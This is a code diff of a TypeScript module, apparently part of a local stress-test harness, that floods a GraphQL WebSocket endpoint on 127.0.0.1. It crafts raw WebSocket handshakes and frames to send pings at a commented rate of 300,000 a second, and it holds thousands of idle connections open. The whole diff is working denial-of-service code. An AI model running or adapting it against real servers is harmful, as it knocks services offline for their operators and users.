@@ -1,11 +1,24 @@
 import { connect, type Socket } from 'node:net';
-import { WebSocket } from 'ws';
 import { ATTACKER_ADDRESS, type Attack, often, type Target } from './target.ts';
 
 const RESET_AFTER_MS = 20;
 const UNREAD = 100;
-const IDLE_CONNECTIONS = 1_990;
-const PINGS_AT_ONCE = 500;
+const IDLE_CONNECTIONS = 2_100;
+/** Three hundred thousand a second. */
+const PINGS_AT_ONCE = 3_000;
+const FLOOD_EVERY_MS = 10;
+const SHORT_FRAME = 126;
+const HANDSHAKE = [
+  'GET /graphql HTTP/1.1',
+  'Host: x',
+  'Connection: Upgrade',
+  'Upgrade: websocket',
+  'Sec-WebSocket-Version: 13',
+  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
+  'Sec-WebSocket-Protocol: graphql-transport-ws',
+  '',
+  '',
+].join('\r\n');
 
 function open({ url }: Target): Socket {
   const socket = connect({ port: Number(new URL(url).port), host: '127.0.0.1', localAddress: ATTACKER_ADDRESS });
@@ -52,22 +65,24 @@ export const pingsAfterInit: Attack = (target) => {
   return pings(target, [{ type: 'connection_init', payload }]);
 };
 
-async function pings({ url }: Target, first: readonly object[]): Promise<void> {
+async function pings(target: Target, first: readonly object[]): Promise<void> {
+  const flood = Buffer.concat(Array.from({ length: PINGS_AT_ONCE }, () => frameOf({ type: 'ping' })));
   for (;;) {
-    const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
-      localAddress: ATTACKER_ADDRESS,
-    });
-    const closed = new Promise((resolve) => socket.on('close', resolve).on('error', resolve));
-    socket.on('open', () => {
-      for (const message of first) socket.send(JSON.stringify(message));
-    });
-    const flood = setInterval(() => {
-      for (let index = 0; socket.readyState === WebSocket.OPEN && index < PINGS_AT_ONCE; index += 1) {
-        socket.send('{"type":"ping"}');
-      }
-    }, 10);
+    const socket = open(target).resume();
+    const closed = new Promise((resolve) => socket.on('close', resolve));
+    socket.write(HANDSHAKE);
+    for (const message of first) socket.write(frameOf(message));
+    const timer = setInterval(() => socket.write(flood), FLOOD_EVERY_MS);
     await closed;
-    clearInterval(flood);
+    clearInterval(timer);
     await new Promise((resolve) => setTimeout(resolve, RESET_AFTER_MS));
   }
+}
+
+/** A text frame of a client; a mask of zeros leaves it readable. */
+function frameOf(message: object): Buffer {
+  const text = Buffer.from(JSON.stringify(message));
+  const length =
+    text.length < SHORT_FRAME ? [0x80 | text.length] : [0x80 | SHORT_FRAME, text.length >> 8, text.length & 0xff];
+  return Buffer.concat([Buffer.of(0x81, ...length, 0, 0, 0, 0), text]);
 }
